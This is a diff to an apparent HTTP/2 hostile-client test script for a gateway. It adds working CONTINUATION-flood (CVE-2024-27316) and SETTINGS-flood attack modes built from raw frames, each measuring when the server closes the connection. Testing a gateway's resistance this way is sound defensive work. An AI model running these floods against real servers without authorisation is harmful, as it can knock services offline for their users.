@@ -10,6 +10,12 @@ gateway's hostile-client tests. Prints one JSON line with what it saw.
       the connection); reports when the server closed the connection (or SECONDS passed).
   h2_abuse.py idle HOST PORT PATH SECONDS
       one request, then silence; reports when the server sent GOAWAY and closed.
+  h2_abuse.py continuation-flood HOST PORT PATH MEGABYTES
+      a HEADERS frame without END_HEADERS, then CONTINUATION frames of valid header fields for
+      ever (CVE-2024-27316); reports how many bytes were sent before the server cut it off.
+  h2_abuse.py settings-flood HOST PORT PATH FRAMES
+      FRAMES SETTINGS frames, never reading the ACKs; reports how many were written and when
+      the server closed the connection.
 """
 import json
 import socket
@@ -169,6 +175,74 @@ def idle(host, port, path, seconds):
     print(json.dumps({"status": status, "goaway_after": goaway_after, "closed_after": closed_after}))
 
 
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+
+
+def frame(kind, flags, stream, payload):
+    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
+
+
+def raw_connect(host, port):
+    sock = socket.create_connection((host, port), timeout=10)
+    sock.sendall(PREFACE + frame(0x4, 0, 0, b""))
+    return sock
+
+
+def until_closed(sock, seconds):
+    """Reads (and drops) until the server closes or `seconds` pass; True when it closed."""
+    sock.settimeout(0.2)
+    deadline = time.monotonic() + seconds
+    while time.monotonic() < deadline:
+        try:
+            if not sock.recv(65536):
+                return True
+        except socket.timeout:
+            continue
+        except OSError:
+            return True
+    return False
+
+
+def continuation_flood(host, port, path, megabytes):
+    sock = raw_connect(host, port)
+    # One literal header field (never indexed, new name): x-pad: 100 bytes.
+    field = b"\x10\x05x-pad\x64" + b"a" * 100
+    block = field * 150
+    first = bytes([0x82, 0x86, 0x84]) + block  # :method GET, :scheme http, :path /
+    start = time.monotonic()
+    sent = 0
+    cut = False
+    try:
+        sock.sendall(frame(0x1, 0x1, 1, first))  # HEADERS, END_STREAM, no END_HEADERS
+        sent += len(first)
+        while sent < megabytes * 1024 * 1024:
+            sock.sendall(frame(0x9, 0x0, 1, block))  # CONTINUATION, no END_HEADERS
+            sent += len(block)
+    except OSError:
+        cut = True
+    closed = cut or until_closed(sock, 10)
+    print(json.dumps({"sent_bytes": sent, "closed": closed,
+                      "seconds": round(time.monotonic() - start, 3)}))
+
+
+def settings_flood(host, port, path, frames):
+    sock = raw_connect(host, port)
+    start = time.monotonic()
+    one = frame(0x4, 0, 0, (0x3).to_bytes(2, "big") + (100).to_bytes(4, "big"))
+    written = 0
+    sock.settimeout(5)
+    try:
+        batch = one * 1000
+        while written < frames:
+            sock.sendall(batch)
+            written += 1000
+    except (socket.timeout, OSError):
+        pass
+    closed = until_closed(sock, 30)
+    print(json.dumps({"written": written, "closed": closed,
+                      "seconds": round(time.monotonic() - start, 3)}))
+
+
 def main():
     mode, host, port, path = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
     if mode == "rapid-reset":
@@ -178,6 +252,10 @@ def main():
         zero_window(host, port, path, int(sys.argv[5]), float(sys.argv[6]), window)
     elif mode == "idle":
         idle(host, port, path, float(sys.argv[5]))
+    elif mode == "continuation-flood":
+        continuation_flood(host, port, path, int(sys.argv[5]))
+    elif mode == "settings-flood":
+        settings_flood(host, port, path, int(sys.argv[5]))
     else:
         sys.exit(f"unknown mode {mode}")
 
